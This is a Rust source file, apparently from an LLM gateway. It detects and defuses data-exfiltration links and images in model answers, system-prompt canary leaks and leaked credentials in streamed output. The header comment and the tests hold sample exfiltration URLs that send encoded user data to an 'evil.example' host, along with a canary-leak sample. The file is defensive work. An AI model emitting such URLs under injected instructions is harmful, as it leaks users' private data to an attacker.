//! Answers: links and images whose URLs carry data out (the classic exfiltration of an
//! indirect prompt injection: `![](https://evil.example/log?q=<the user's data>)`, which
//! a chat UI fetches without a click), and a leaked system-prompt canary.

use std::sync::OnceLock;

use regex::Regex;

use crate::{Category, Finding};

fn url_re() -> &'static Regex {
    static R: OnceLock<Regex> = OnceLock::new();
    R.get_or_init(|| {
        Regex::new(r#"(?i)(!?)\[[^\]]{0,200}\]\(\s*<?(https?://[^\s)>]+)|<img\b[^>]*\bsrc\s*=\s*["']?(https?://[^\s"'>]+)"#)
            .unwrap_or_else(|e| panic!("exfiltration pattern: {e}"))
    })
}

/// How much data a URL carries in its query and path, roughly: the longest query value
/// or path segment, and whether any looks encoded (base64/hex/percent runs).
fn payload(url: &str) -> (usize, bool) {
    let after_host = url.splitn(4, '/').nth(3).unwrap_or("");
    let parts = after_host.split(['?', '&', '/', '=', '#']);
    let longest = parts.clone().map(str::len).max().unwrap_or(0);
    let encoded = parts.clone().any(|p| {
        p.len() >= 24
            && (p.bytes().all(|b| {
                b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_' | b'=')
            }) || p.matches('%').count() >= 4)
    });
    (longest, encoded)
}

/// Exfiltration-shaped links and images in an answer. An image is fetched by the client
/// on render, so any image URL carrying a payload counts; a link needs a larger one.
pub fn scan(text: &str, findings: &mut Vec<Finding>) {
    for c in url_re().captures_iter(text) {
        let (image, url) = match (c.get(1), c.get(2), c.get(3)) {
            (Some(bang), Some(u), _) => (bang.as_str() == "!", u),
            (_, _, Some(u)) => (true, u),
            _ => continue,
        };
        let (longest, encoded) = payload(url.as_str());
        let suspicious = if image {
            longest >= 16 || encoded
        } else {
            longest >= 48 || encoded
        };
        if suspicious {
            let what = if image { "an image" } else { "a link" };
            findings.push(Finding::new(
                Category::Exfiltration,
                if image {
                    "exfiltration_image"
                } else {
                    "exfiltration_link"
                },
                (url.start(), url.end()),
                if image { 0.9 } else { 0.7 },
                format!(
                    "{what} whose URL carries data ({longest} characters in one part{})",
                    if encoded { ", encoded" } else { "" }
                ),
            ));
        }
    }
}

/// A canary placed in the system prompt that shows up in an answer: the prompt leaked.
pub fn canary(text: &str, canary: &str, findings: &mut Vec<Finding>) {
    if canary.is_empty() {
        return;
    }
    if let Some(i) = text.find(canary) {
        findings.push(Finding::new(
            Category::Exfiltration,
            "system_prompt_leak",
            (i, i + canary.len()),
            0.99,
            "the answer contains the system prompt's canary: the system prompt leaked".into(),
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(text: &str) -> Vec<&'static str> {
        let mut f = Vec::new();
        scan(text, &mut f);
        f.iter().map(|f| f.kind).collect()
    }

    #[test]
    fn images_and_links_that_carry_data() {
        assert_eq!(
            kinds("![logo](https://cdn.example.com/logo.png)"),
            Vec::<&str>::new()
        );
        assert_eq!(
            kinds("see [docs](https://docs.example.com/guide/install)"),
            Vec::<&str>::new()
        );
        assert_eq!(
            kinds("![x](https://evil.example/p?d=am9obkBleGFtcGxlLmNvbSBwYXNzd29yZA)"),
            ["exfiltration_image"]
        );
        assert_eq!(
            kinds("<img src=\"https://evil.example/c?q=alice%40corp.com%20salary%2090000\">"),
            ["exfiltration_image"]
        );
        assert_eq!(
            kinds("[click](https://evil.example/?q=the-users-full-conversation-history-goes-here-and-more)"),
            ["exfiltration_link"]
        );
        let mut f = Vec::new();
        canary(
            "sure, my instructions say CANARY-1234",
            "CANARY-1234",
            &mut f,
        );
        assert_eq!(f[0].kind, "system_prompt_leak");
    }
}

/// Exfiltration links and images in `text`: their kinds, and the text with their URLs
/// replaced by `[BLOCKED_URL]` when `redact` (else unchanged).
pub fn defuse(text: &str, redact: bool) -> (String, Vec<&'static str>) {
    defuse_with(text, redact, &Sensitive::default())
}

/// Values an answer must not carry out in a URL, whatever the URL's length: those the
/// gateway put back in place of placeholders (`restored`: a URL holding one is always
/// defused, since the gateway itself would be writing the value into it) and the
/// personal data and credentials the request carried (`known`: defused when
/// redacting, else named).
#[derive(Debug, Default, Clone)]
pub struct Sensitive {
    restored: Vec<String>,
    known: Vec<String>,
}

/// A value's comparable form: lower case, without the separators people write numbers
/// with.
fn compact(s: &str) -> String {
    s.chars()
        .filter(|c| !c.is_whitespace() && !matches!(c, '-' | '.' | '(' | ')' | '/' | '+'))
        .flat_map(char::to_lowercase)
        .collect()
}

impl Sensitive {
    /// Values shorter than four characters (after [`compact`]) are left out: they would
    /// match ordinary URLs.
    pub fn new<'a>(
        restored: impl IntoIterator<Item = &'a str>,
        known: impl IntoIterator<Item = &'a str>,
    ) -> Self {
        let keep = |v: &str| {
            let c = compact(v);
            (c.chars().count() >= 4).then_some(c)
        };
        Sensitive {
            restored: restored.into_iter().filter_map(keep).collect(),
            known: known.into_iter().filter_map(keep).collect(),
        }
    }

    pub fn is_empty(&self) -> bool {
        self.restored.is_empty() && self.known.is_empty()
    }

    /// Whether `url` carries a restored value (`Some(true)`), a known one
    /// (`Some(false)`), or neither; also percent-encoded.
    fn carried(&self, url: &str) -> Option<bool> {
        let raw = compact(url);
        let decoded =
            crate::normalise::percent_decode_any(url).map(|d| compact(&d.replace('+', " ")));
        let has = |v: &String| {
            raw.contains(v.as_str()) || decoded.as_ref().is_some_and(|d| d.contains(v.as_str()))
        };
        if self.restored.iter().any(has) {
            Some(true)
        } else if self.known.iter().any(has) {
            Some(false)
        } else {
            None
        }
    }
}

fn bare_url_re() -> &'static Regex {
    static R: OnceLock<Regex> = OnceLock::new();
    R.get_or_init(|| {
        Regex::new(r#"(?i)\b(?:https?|ftp|wss?)://[^\s<>"'(){}]+"#)
            .unwrap_or_else(|e| panic!("URL pattern: {e}"))
    })
}

/// As [`defuse`], and any URL (link, image or bare) that carries one of `values` is
/// defused too (`exfiltration_data`): always for a restored value, when `redact` for a
/// known one.
pub fn defuse_with(text: &str, redact: bool, values: &Sensitive) -> (String, Vec<&'static str>) {
    let mut f = Vec::new();
    scan(text, &mut f);
    let mut cut: Vec<(usize, usize)> = if redact {
        f.iter().map(|x| (x.start, x.end)).collect()
    } else {
        Vec::new()
    };
    let mut kinds: Vec<&'static str> = f.iter().map(|x| x.kind).collect();
    if !values.is_empty() {
        for m in bare_url_re().find_iter(text) {
            let Some(restored) = values.carried(m.as_str()) else {
                continue;
            };
            kinds.push("exfiltration_data");
            if (restored || redact) && !cut.iter().any(|&(s, e)| s < m.end() && m.start() < e) {
                cut.push((m.start(), m.end()));
            }
        }
    }
    if cut.is_empty() {
        return (text.to_owned(), kinds);
    }
    cut.sort_unstable();
    let mut out = String::with_capacity(text.len());
    let mut at = 0;
    for (s, e) in cut {
        if s < at {
            continue;
        }
        out.push_str(&text[at..s]);
        out.push_str("[BLOCKED_URL]");
        at = e;
    }
    out.push_str(&text[at..]);
    (out, kinds)
}

/// Longest link or image held back while it is still being written.
pub const MAX_HELD: usize = 2048;

/// Where a link or image that may still be unfinished starts in `s`, if anywhere; with
/// `bare`, also a bare URL (the last word, when it is or may become one).
fn open_link(s: &str, bare: bool) -> Option<usize> {
    let mut best = None;
    if bare {
        // The text after the last character a URL cannot hold: a URL still being
        // written, or the start of one (`ht`, `https:/`).
        let w = s
            .rfind(|c: char| c.is_whitespace() || "<>\"'(){}".contains(c))
            .map_or(0, |i| i + s[i..].chars().next().map_or(1, char::len_utf8));
        let word = s[w..].to_ascii_lowercase();
        if word.contains("://") {
            best = Some(w);
        } else {
            const SCHEMES: [&str; 5] = ["https://", "http://", "ftp://", "wss://", "ws://"];
            let partial = (1..=word.len().min(8)).rev().find(|&k| {
                word.is_char_boundary(word.len() - k)
                    && SCHEMES
                        .iter()
                        .any(|p| p.starts_with(&word[word.len() - k..]))
            });
            if let Some(k) = partial {
                best = Some(s.len() - k);
            }
        }
    }
    if let Some(i) = s.rfind('[') {
        let after = &s[i..];
        let open = match after.find(']') {
            None => true,
            Some(j) => {
                let rest = &after[j + 1..];
                rest.is_empty() || (rest.starts_with('(') && !rest.contains(')'))
            }
        };
        if open {
            // Include the `!` of an image.
            let at = if i > 0 && s.as_bytes()[i - 1] == b'!' {
                i - 1
            } else {
                i
            };
            best = Some(best.map_or(at, |b: usize| b.min(at)));
        }
    }
    if let Some(i) = s.rfind('<') {
        let after = &s[i..];
        let maybe_img = "<img".starts_with(&after[..after.len().min(4)].to_ascii_lowercase())
            || after.to_ascii_lowercase().starts_with("<img");
        if maybe_img && !after.contains('>') {
            best = Some(best.map_or(i, |b: usize| b.min(i)));
        }
    }
    best.filter(|&b| s.len() - b <= MAX_HELD)
}

/// Screens a streamed answer for exfiltration links and images: text passes at once
/// except a link or image still being written, which waits until it is complete (or
/// [`MAX_HELD`] bytes long), so a URL split across chunks is judged whole.
#[derive(Debug, Default)]
pub struct LinkGate {
    pending: String,
    values: Sensitive,
    /// Kinds found so far.
    pub found: Vec<&'static str>,
    /// Replace exfiltration URLs with `[BLOCKED_URL]` (else only record them).
    pub redact: bool,
}

impl LinkGate {
    pub fn new(redact: bool) -> Self {
        LinkGate {
            redact,
            ..LinkGate::default()
        }
    }

    /// A gate that also defuses URLs carrying one of `values` ([`defuse_with`]).
    pub fn with_values(redact: bool, values: Sensitive) -> Self {
        LinkGate {
            redact,
            values,
            ..LinkGate::default()
        }
    }

    fn screen(&mut self, text: &str) -> String {
        let (out, found) = defuse_with(text, self.redact, &self.values);
        self.found.extend(found);
        out
    }

    /// Screened text that can be sent now.
    pub fn push(&mut self, piece: &str) -> String {
        self.pending.push_str(piece);
        let cut = open_link(&self.pending, !self.values.is_empty()).unwrap_or(self.pending.len());
        let ready: String = self.pending.drain(..cut).collect();
        self.screen(&ready)
    }

    /// Whatever is held back, at the end of the stream.
    pub fn finish(&mut self) -> String {
        let rest = std::mem::take(&mut self.pending);
        self.screen(&rest)
    }
}

#[cfg(test)]
mod gate_tests {
    use super::*;
    use proptest::prelude::*;

    fn whole(text: &str) -> String {
        let mut g = LinkGate::new(true);
        g.push(text) + &g.finish()
    }

    #[test]
    fn a_split_image_is_judged_whole() {
        let text = "Here: ![x](https://evil.example/p?d=am9obkBleGFtcGxlLmNvbSBwYXNzd29yZA) done, see [docs](https://docs.example.com/a) [1].";
        let want = "Here: ![x]([BLOCKED_URL]) done, see [docs](https://docs.example.com/a) [1].";
        assert_eq!(whole(text), want);
        for i in 0..=text.len() {
            let mut g = LinkGate::new(true);
            let got = g.push(&text[..i]) + &g.push(&text[i..]) + &g.finish();
            assert_eq!(got, want, "split at {i}");
        }
    }

    #[test]
    fn ordinary_brackets_are_not_held() {
        let mut g = LinkGate::new(true);
        assert_eq!(g.push("see [1] and a < b "), "see [1] and a < b ");
        assert_eq!(g.push("then [docs"), "then ");
        assert_eq!(g.push("]"), "");
        assert_eq!(g.push(" ok"), "[docs] ok");
    }

    #[test]
    fn a_url_holding_a_sensitive_value_is_defused_whatever_its_length() {
        let values = Sensitive::new(["[PHONE_1]"], ["j@ex.io"]);
        let text = "See ![a](https://x.test/?p=[PHONE_1]) and https://x.test/m/j%40ex.io now, [ok](https://x.test/a).";
        let want = "See ![a]([BLOCKED_URL]) and [BLOCKED_URL] now, [ok](https://x.test/a).";
        for i in 0..=text.len() {
            let mut g = LinkGate::with_values(true, values.clone());
            let got = g.push(&text[..i]) + &g.push(&text[i..]) + &g.finish();
            assert_eq!(got, want, "split at {i}");
        }
        // A restored value is defused even when only flagging.
        let (out, kinds) = defuse_with(text, false, &values);
        assert!(out.contains("![a]([BLOCKED_URL])"), "{out}");
        assert!(out.contains("j%40ex.io"), "{out}");
        assert_eq!(kinds, ["exfiltration_data", "exfiltration_data"]);
    }

    proptest! {
        /// With values to keep out of URLs, chunking never changes the result, and no
        /// URL that goes out holds one.
        #[test]
        fn no_url_holds_a_sensitive_value_however_cut(
            parts in proptest::collection::vec(prop_oneof![
                "[a-z <>!\\[\\]()/.:?=\"]{0,8}",
                Just("![i](https://e.test/x?q=[PHONE_1])".to_owned()),
                Just("see https://e.test/p/[EMAIL_2] now".to_owned()),
                Just("{\"u\":\"https://e.test/c?d=j%40ex.io\"}".to_owned()),
                Just("[ok](https://d.test/y)".to_owned()),
            ], 0..8),
            cut in 0usize..200,
        ) {
            let values = Sensitive::new(["[PHONE_1]", "[EMAIL_2]"], ["j@ex.io"]);
            let text = parts.concat();
            let mut c = cut.min(text.len());
            while !text.is_char_boundary(c) { c -= 1; }
            let mut g = LinkGate::with_values(true, values.clone());
            let got = g.push(&text[..c]) + &g.push(&text[c..]) + &g.finish();
            let mut w = LinkGate::with_values(true, values.clone());
            let whole = w.push(&text) + &w.finish();
            prop_assert_eq!(&got, &whole);
            for m in bare_url_re().find_iter(&got) {
                prop_assert!(values.carried(m.as_str()).is_none(), "{} in {}", m.as_str(), got);
            }
        }

        /// Chunking never changes the result.
        #[test]
        fn chunking_invariant(
            parts in proptest::collection::vec(prop_oneof![
                "[a-z <>!\\[\\]()/.:?=]{0,8}",
                Just("![i](https://e.example/x?q=aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=)".to_owned()),
                Just("[t](https://d.example/y)".to_owned()),
                Just("<img src=\"https://e.example/c?q=%61%62%63%64%65\">".to_owned()),
            ], 0..8),
            cut in 0usize..200,
        ) {
            let text = parts.concat();
            let mut c = cut.min(text.len());
            while !text.is_char_boundary(c) { c -= 1; }
            let mut g = LinkGate::new(true);
            let got = g.push(&text[..c]) + &g.push(&text[c..]) + &g.finish();
            prop_assert_eq!(got, whole(&text));
        }
    }
}

/// Watches a streamed answer for a canary: holds back only a tail that could be the
/// start of it, so a canary split across chunks is still seen.
#[derive(Debug)]
pub struct CanaryWatch {
    token: String,
    pending: String,
    /// The canary appeared: the system prompt is leaking.
    pub leaked: bool,
}

impl CanaryWatch {
    pub fn new(token: &str) -> Self {
        CanaryWatch {
            token: token.to_owned(),
            pending: String::new(),
            leaked: false,
        }
    }

    /// Text that can be sent now (nothing once the canary has been seen).
    pub fn push(&mut self, piece: &str) -> String {
        if self.leaked {
            return String::new();
        }
        self.pending.push_str(piece);
        if self.pending.contains(&self.token) {
            self.leaked = true;
            self.pending.clear();
            return String::new();
        }
        // Keep the longest suffix that is a prefix of the token.
        let keep = (1..self.token.len().min(self.pending.len() + 1))
            .rev()
            .find(|&n| {
                self.pending.is_char_boundary(self.pending.len() - n)
                    && self
                        .token
                        .starts_with(&self.pending[self.pending.len() - n..])
            })
            .unwrap_or(0);
        let cut = self.pending.len() - keep;
        self.pending.drain(..cut).collect()
    }

    pub fn finish(&mut self) -> String {
        if self.leaked {
            return String::new();
        }
        std::mem::take(&mut self.pending)
    }
}

#[cfg(test)]
mod canary_tests {
    use super::*;

    #[test]
    fn a_split_canary_is_caught_and_nothing_of_it_passes() {
        let token = "bwc-0123456789abcdef";
        let text = format!("Sure, my instructions end with {token} and more");
        for i in 0..=text.len() {
            let mut w = CanaryWatch::new(token);
            let got = w.push(&text[..i]) + &w.push(&text[i..]) + &w.finish();
            assert!(w.leaked, "split at {i}");
            assert!(!got.contains("bwc-0123"), "split at {i}: {got}");
        }
        let mut w = CanaryWatch::new(token);
        assert_eq!(w.push("harmless bw"), "harmless ");
        assert_eq!(w.push("x text"), "bwx text");
        assert!(!w.leaked);
    }
}

/// Credentials in an answer that the request did not carry (a model repeating a key
/// from a document it was shown or from its training data): replaced with
/// `[REDACTED_<KIND>]` when `redact`, else only named. `known` holds the credentials
/// the request itself carried, which its sender may see again. `context` is text sent
/// just before `text` (not rewritten, only read so that `password: ` and its value can
/// be seen together across a cut).
pub fn redact_secrets(
    context: &str,
    text: &str,
    redact: bool,
    known: &std::collections::HashSet<String>,
) -> (String, Vec<&'static str>) {
    let joined = format!("{context}{text}");
    let mut f = Vec::new();
    crate::secrets::scan(&joined, &mut f);
    let mut f: Vec<Finding> = crate::resolve_overlaps(f)
        .into_iter()
        .filter(|x| x.end > context.len() && !known.contains(&joined[x.start..x.end]))
        .collect();
    f.sort_by_key(|x| x.start);
    let kinds: Vec<&'static str> = f.iter().map(|x| x.kind).collect();
    if f.is_empty() || !redact {
        return (text.to_owned(), kinds);
    }
    let mut out = String::with_capacity(text.len());
    let mut at = context.len();
    for x in &f {
        let start = x.start.max(context.len());
        if start < at {
            continue;
        }
        out.push_str(&joined[at..start]);
        out.push_str(&format!("[REDACTED_{}]", x.kind.to_ascii_uppercase()));
        at = x.end;
    }
    out.push_str(&joined[at..]);
    (out, kinds)
}

/// Longest run without whitespace held back while a credential may still be arriving.
pub const MAX_SECRET_HELD: usize = 512;
/// Longest PEM block held back until its `-----END` line.
pub const MAX_PEM_HELD: usize = 16 * 1024;
/// Text already sent that is read again as context.
const SECRET_CONTEXT: usize = 64;

/// [`redact_secrets`] for a stream: holds back only the word being written (a
/// credential has no spaces), or an unfinished PEM block.
#[derive(Default)]
pub struct SecretGate {
    pending: String,
    sent_tail: String,
    known: std::sync::Arc<std::collections::HashSet<String>>,
    pub redact: bool,
    /// Kinds found so far.
    pub found: Vec<&'static str>,
}

impl SecretGate {
    pub fn new(redact: bool, known: std::sync::Arc<std::collections::HashSet<String>>) -> Self {
        SecretGate {
            redact,
            known,
            ..SecretGate::default()
        }
    }

    fn release(&mut self, ready: &str) -> String {
        if ready.is_empty() {
            return String::new();
        }
        let (out, kinds) = redact_secrets(&self.sent_tail, ready, self.redact, &self.known);
        self.found.extend(kinds);
        self.sent_tail.push_str(ready);
        let excess = self.sent_tail.len().saturating_sub(SECRET_CONTEXT);
        let mut cut = excess;
        while !self.sent_tail.is_char_boundary(cut) {
            cut += 1;
        }
        self.sent_tail.drain(..cut);
        out
    }

    /// Screened text that can be sent now.
    pub fn push(&mut self, piece: &str) -> String {
        self.pending.push_str(piece);
        let pem = self.pending.rfind("-----BEGIN").filter(|&b| {
            !self.pending[b..].contains("-----END") && self.pending.len() - b <= MAX_PEM_HELD
        });
        let word = match self.pending.rfind(char::is_whitespace) {
            Some(i) => i + self.pending[i..].chars().next().map_or(1, char::len_utf8),
            None => 0,
        };
        let mut cut = pem.unwrap_or(word);
        if pem.is_none() && self.pending.len() - cut > MAX_SECRET_HELD {
            cut = self.pending.len();
        }
        let ready: String = self.pending.drain(..cut).collect();
        self.release(&ready)
    }

    /// Whatever is held back, at the end of the stream.
    pub fn finish(&mut self) -> String {
        let rest = std::mem::take(&mut self.pending);
        self.release(&rest)
    }
}

#[cfg(test)]
mod secret_gate_tests {
    use super::*;
    use proptest::prelude::*;
    use std::collections::HashSet;
    use std::sync::Arc;

    const KEY: &str = "AKIAIOSFODNN7EXAMPLE";

    fn stream(pieces: &[&str], known: HashSet<String>) -> (String, Vec<&'static str>) {
        let mut g = SecretGate::new(true, Arc::new(known));
        let mut out: String = pieces.iter().map(|p| g.push(p)).collect();
        out.push_str(&g.finish());
        (out, g.found)
    }

    #[test]
    fn credentials_the_request_did_not_carry_are_redacted() {
        let text = format!("Use the key {KEY} to sign in.");
        let (out, kinds) = redact_secrets("", &text, true, &HashSet::new());
        assert_eq!(out, "Use the key [REDACTED_AWS_ACCESS_KEY_ID] to sign in.");
        assert_eq!(kinds, ["aws_access_key_id"]);
        // The request's own key may be echoed back.
        let known: HashSet<String> = [KEY.to_owned()].into();
        assert_eq!(redact_secrets("", &text, true, &known).0, text);
        // Flag only.
        let (out, kinds) = redact_secrets("", &text, false, &HashSet::new());
        assert_eq!((out.as_str(), kinds.len()), (text.as_str(), 1));
    }

    #[test]
    fn a_streamed_key_split_anywhere_is_redacted_and_holds_back_one_word() {
        let text = format!("Here: {KEY} done");
        for cut in 0..=text.len() {
            let (out, _) = stream(&[&text[..cut], &text[cut..]], HashSet::new());
            assert_eq!(
                out, "Here: [REDACTED_AWS_ACCESS_KEY_ID] done",
                "cut at {cut}"
            );
        }
        let mut g = SecretGate::new(true, Arc::new(HashSet::new()));
        assert_eq!(g.push("Hello wor"), "Hello ");
        assert_eq!(g.push("ld, how are you"), "world, how are ");
        assert_eq!(g.finish(), "you");
    }

    #[test]
    fn an_assignment_split_across_pieces_is_seen_whole() {
        let (out, kinds) = stream(
            &["the password: ", "hX9vQ2mZ7pL4kR8s", " ok"],
            HashSet::new(),
        );
        assert_eq!(kinds, ["generic_secret"], "{out}");
        assert!(!out.contains("hX9vQ2mZ7pL4kR8s"), "{out}");
    }

    #[test]
    fn a_pem_block_is_held_until_it_ends() {
        let pem = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\n-----END PRIVATE KEY-----";
        let mut g = SecretGate::new(true, Arc::new(HashSet::new()));
        let mut out = g.push("key:\n");
        for line in pem.split_inclusive('\n') {
            out.push_str(&g.push(line));
            if !line.contains("END") {
                assert!(!out.contains("MIIE"), "{out}");
            }
        }
        out.push_str(&g.finish());
        assert!(!out.contains("MIIE") && out.contains("[REDACTED_"), "{out}");
    }

    proptest! {
        /// Whatever the cuts, text without credentials passes unchanged.
        #[test]
        fn plain_text_passes_unchanged(text in "[a-zA-Z ,.\n]{0,200}", cuts in proptest::collection::vec(0usize..200, 0..6)) {
            let mut cuts: Vec<usize> = cuts.into_iter().map(|c| c.min(text.len())).collect();
            cuts.sort_unstable();
            cuts.dedup();
            let mut pieces = Vec::new();
            let mut at = 0;
            for c in cuts {
                pieces.push(&text[at..c]);
                at = c;
            }
            pieces.push(&text[at..]);
            let (out, found) = stream(&pieces, HashSet::new());
            prop_assert_eq!(out, text);
            prop_assert!(found.is_empty());
        }
    }
}
